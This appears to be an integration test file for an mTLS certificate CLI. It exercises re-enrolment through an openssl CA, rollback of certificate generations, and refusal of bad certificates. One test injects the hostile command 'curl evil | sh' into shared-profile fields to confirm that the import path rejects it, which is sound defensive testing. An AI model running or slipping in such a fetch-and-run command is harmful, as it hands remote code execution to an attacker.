// tier: integration
/**
 * Issue 12, by hand: a CA-issued identity renews in place. `openssl ca` is the corporate CA:
 * init --csr → sign → import, then 3 × (csr new → sign → csr import-cert). Each import is a new
 * generation for the same key, settings.json stays byte-identical with the same inode, and
 * rollback reaches each earlier generation. Bad certificates change nothing on disk. A new key
 * by hand (`csr new --new-key`) is a rotation once imported, and nothing before that.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { X509Certificate } from 'node:crypto';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { makeOpensslCa } from '../helpers/openssl-ca';
import { makeWorld, type World } from './cli-harness';
import { current, keyFingerprint, sha, snapshot } from './reenrol-helpers';


function settingsId(w: World): { sha: string; ino: number } {
  return { sha: sha(readFileSync(w.codeSettings)), ino: statSync(w.codeSettings).ino };
}

function ok(w: World, args: string[]) {
  const r = w.cli(args);
  assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
  return r;
}

test('re-enrolment by hand with openssl ca: 3 generations, same key, settings untouched, rollback to each', (t) => {
  const w = makeWorld('reenrol');
  const ca = makeOpensslCa('Corp Issuing CA', w.root);
  writeFileSync(w.codeSettings, '{\n  // mine\n  "editor.fontSize": 14,\n}\n');
  ok(w, ['init', '--url', 'https://coder.corp.test', '--name', 'corp', '--csr', join(w.root, 'req.csr'), '--san', 'email:dev@corp.test', '--no-settings']);
  writeFileSync(join(w.root, 'c0.crt'), ca.signSync(readFileSync(join(w.root, 'req.csr'), 'utf8'), { days: 20 }));
  ok(w, ['csr', 'import-cert', join(w.root, 'c0.crt')]);
  ok(w, ['settings', 'apply']);
  const settings0 = settingsId(w);
  const fp0 = keyFingerprint(w);
  const certs: string[] = [current(w, 'client.crt')];
  let serving = certs[0]!;
  const byGen = new Map<number, string>([[1, serving]]);
  const rows: string[] = [`gen 1: key ${fp0.slice(0, 16)} serial ${new X509Certificate(certs[0]!).serialNumber}`];

  // The refresh hook of a CA-issued profile without an issuer command: exit 1, one line naming csr new.
  const hook = w.cli(['refresh']);
  assert.equal(hook.code, 1);
  const hookOut = (hook.stdout + hook.stderr).trim();
  assert.equal(hookOut.split('\n').length, 1, hookOut);
  assert.match(hookOut, /mtls-tray csr new --profile corp/);
  // renew names re-enrolment, not init --import-pem.
  const renew = w.cli(['renew']);
  assert.equal(renew.code, 1);
  assert.match(renew.stderr, /csr new --profile corp/);
  assert.doesNotMatch(renew.stderr + hookOut, /init --import-pem|init --csr/);

  for (let i = 1; i <= 3; i++) {
    const csrFile = join(w.root, `r${i}.csr`);
    const made = JSON.parse(ok(w, ['--json', 'csr', 'new', '--out', csrFile]).stdout);
    assert.equal(made.newKey, false);
    // Pending, shown in list and status with what to send where; the current generation keeps serving.
    const list = w.json(['list']);
    assert.equal(list[0].reenrolment.csrFile.endsWith('request.csr'), true);
    assert.match(ok(w, ['status']).stdout, /Re-enrolment pending since .*\n.*Next: send the request/);
    assert.match(ok(w, ['list']).stdout, /Re-enrolment pending since/);
    assert.equal(current(w, 'client.crt'), serving);
    writeFileSync(join(w.root, `c${i}.crt`), ca.signSync(readFileSync(csrFile, 'utf8'), { days: 20 }));
    const res = JSON.parse(ok(w, ['--json', 'csr', 'import-cert', join(w.root, `c${i}.crt`)]).stdout);
    assert.match(res.message, /same key: a renewal/);
    assert.deepEqual(res.settings, []);
    const cert = current(w, 'client.crt');
    assert.notEqual(cert, serving);
    assert.equal(keyFingerprint(w), fp0, 'the key stays');
    assert.deepEqual(settingsId(w), settings0, 'settings.json byte-identical, same inode');
    assert.equal(w.json(['list'])[0].reenrolment, undefined, 'the pending state clears');
    const gens = w.json(['status']).generations as Array<{ number: number; current: boolean }>;
    rows.push(`gen ${res.generation}: key ${keyFingerprint(w).slice(0, 16)} serial ${new X509Certificate(cert).serialNumber}`);
    // Rollback reaches the generation before, then the next import goes on from there.
    const back = JSON.parse(ok(w, ['--json', 'rollback']).stdout);
    assert.equal(back.generation, res.generation - 1);
    assert.equal(current(w, 'client.crt'), byGen.get(back.generation), `rollback from ${res.generation} reaches ${back.generation}`);
    serving = byGen.get(back.generation)!;
    rows.push(`  rollback -> gen ${back.generation} (kept: ${gens.map((g) => g.number).join(',')})`);
    certs.push(cert);
    byGen.set(res.generation, cert);
    assert.deepEqual(settingsId(w), settings0);
  }
  // Rolling back walks further: every generation the store keeps is reachable.
  const reached: number[] = [];
  for (;;) {
    const r = w.cli(['--json', 'rollback']);
    if (r.code !== 0) break;
    reached.push(JSON.parse(r.stdout).generation);
  }
  rows.push(`  rollback chain from the last: ${reached.join(' -> ')}`);
  assert.ok(reached.length >= 1);
  assert.deepEqual(settingsId(w), settings0);
  t.diagnostic(rows.join('\n'));
  t.diagnostic(`settings.json sha256 ${settings0.sha.slice(0, 16)} inode ${settings0.ino} unchanged throughout`);
});

test('bad certificates are refused with a clear error and nothing changes on disk; a new key is a rotation only once imported', (t) => {
  const w = makeWorld('reenrol-bad');
  const ca = makeOpensslCa('Corp Issuing CA', w.root);
  const other = makeOpensslCa('Unrelated CA', w.root);
  ok(w, ['init', '--url', 'https://coder.corp.test', '--name', 'corp', '--csr', join(w.root, 'req.csr'), '--san', 'email:dev@corp.test']);
  writeFileSync(join(w.root, 'c0.crt'), ca.signSync(readFileSync(join(w.root, 'req.csr'), 'utf8')));
  ok(w, ['csr', 'import-cert', join(w.root, 'c0.crt')]);
  const csr = join(w.root, 'r.csr');
  ok(w, ['csr', 'new', '--out', csr]);
  const csrPem = readFileSync(csr, 'utf8');
  execFileSync('openssl', ['req', '-new', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', join(w.root, 'x.key'), '-out', join(w.root, 'x.csr'), '-subj', '/CN=someone else'], { stdio: 'pipe' });
  const now = Date.now();
  const bad: Array<[string, string, RegExp, string[]?]> = [
    ['wrong key', ca.signSync(readFileSync(join(w.root, 'x.csr'), 'utf8')), /CERT_KEY_MISMATCH|different key/],
    ['expired', ca.signSync(csrPem, { startDate: new Date(now - 20 * 86400e3), endDate: new Date(now - 86400e3) }), /expired on/],
    ['not yet valid', ca.signSync(csrPem, { startDate: new Date(now + 5 * 86400e3), endDate: new Date(now + 20 * 86400e3) }), /not valid until/],
    ['serverAuth only', ca.signSync(csrPem, { profile: 'server' }), /does not allow client authentication/],
    ['unrelated chain', ca.signSync(csrPem), /CHAIN_ORDER|did not issue/, ['--chain', other.certFile]],
    ['garbage', 'hello\n', /PEM|certificate/],
  ];
  const before = snapshot(w.dataDir);
  const settingsBefore = readFileSync(w.codeSettings, 'utf8');
  const rows: string[] = [];
  for (const [what, pem, msg, extra] of bad) {
    const f = join(w.root, `${what.replace(/ /g, '-')}.crt`);
    writeFileSync(f, pem);
    const r = w.cli(['csr', 'import-cert', f, ...(extra ?? [])]);
    assert.equal(r.code, 1, what);
    assert.match(r.stderr, msg, what);
    assert.deepEqual(snapshot(w.dataDir), before, `${what}: nothing changed on disk`);
    assert.equal(readFileSync(w.codeSettings, 'utf8'), settingsBefore);
    rows.push(`${what.padEnd(16)} exit ${r.code}  ${r.stderr.split('\n')[0]}`);
  }
  t.diagnostic(rows.join('\n'));
  // Still pending: the right certificate is accepted afterwards, with the CA's chain.
  writeFileSync(join(w.root, 'good.crt'), ca.signSync(csrPem));
  ok(w, ['csr', 'import-cert', join(w.root, 'good.crt'), '--chain', ca.certFile]);
  assert.match(current(w, 'client.crt'), /BEGIN CERTIFICATE[\s\S]*BEGIN CERTIFICATE/);

  // New key by hand: csr new --new-key changes nothing that serves...
  const fpOld = keyFingerprint(w);
  const keyOld = current(w, 'client.key');
  const certOld = current(w, 'client.crt');
  ok(w, ['csr', 'new', '--new-key', '--out', join(w.root, 'nk.csr')]);
  assert.equal(current(w, 'client.key'), keyOld);
  assert.equal(current(w, 'client.crt'), certOld);
  assert.equal(w.json(['list'])[0].reenrolment.newKey, true);
  // ...the old pair still verifies (openssl: key matches certificate)...
  const pub = (args: string[]) => execFileSync('openssl', args, { input: '' }).toString();
  assert.equal(pub(['x509', '-noout', '-pubkey', '-in', join(w.dataDir, 'active', 'current', 'client.crt')]), pub(['pkey', '-pubout', '-in', join(w.dataDir, 'active', 'current', 'client.key')]));
  // ...and importing its certificate is a rotation.
  writeFileSync(join(w.root, 'nk.crt'), ca.signSync(readFileSync(join(w.root, 'nk.csr'), 'utf8')));
  const res = JSON.parse(ok(w, ['--json', 'csr', 'import-cert', join(w.root, 'nk.crt')]).stdout);
  assert.match(res.message, /new key: a rotation/);
  assert.notEqual(keyFingerprint(w), fpOld);
  t.diagnostic(`new key: ${fpOld.slice(0, 16)} -> ${keyFingerprint(w).slice(0, 16)} (generation ${res.generation})`);
});

test('the issuer command is local trust: never exported, refused in imports and links', () => {
  const w = makeWorld('issuer-local');
  const ca = makeOpensslCa('Corp Issuing CA', w.root);
  ok(w, ['init', '--url', 'https://coder.corp.test', '--name', 'corp', '--csr', join(w.root, 'req.csr')]);
  writeFileSync(join(w.root, 'c0.crt'), ca.signSync(readFileSync(join(w.root, 'req.csr'), 'utf8')));
  ok(w, ['csr', 'import-cert', join(w.root, 'c0.crt')]);
  ok(w, ['edit', '--issuer-command', 'secret-issuer --token s3cr3t']);
  assert.doesNotMatch(readFileSync(join(w.dataDir, 'profiles', 'corp', 'profile.json'), 'utf8'), /secret-issuer/);
  ok(w, ['export', '--out', join(w.root, 'corp.mtlsprofile')]);
  const exported = readFileSync(join(w.root, 'corp.mtlsprofile'), 'utf8');
  assert.doesNotMatch(exported, /secret-issuer|s3cr3t|issuer/i);
  for (const key of ['issuerCommand', 'issuer', 'renewCommand', 'exec']) {
    const tampered = JSON.stringify({ ...JSON.parse(exported), name: 'evil', [key]: 'curl evil | sh' });
    writeFileSync(join(w.root, 'evil.mtlsprofile'), tampered);
    const r = w.cli(['import', join(w.root, 'evil.mtlsprofile'), '--yes']);
    assert.equal(r.code, 1, key);
    assert.match(r.stderr, /never accepted from a shared profile/, key);
    const link = `mtls-tray://import?profile=${Buffer.from(tampered).toString('base64url')}`;
    const rl = w.cli(['import', link, '--yes']);
    assert.equal(rl.code, 1);
    assert.match(rl.stderr, /never accepted/);
  }
  assert.deepEqual(w.json(['list']).map((p: { id: string }) => p.id), ['corp']);
});
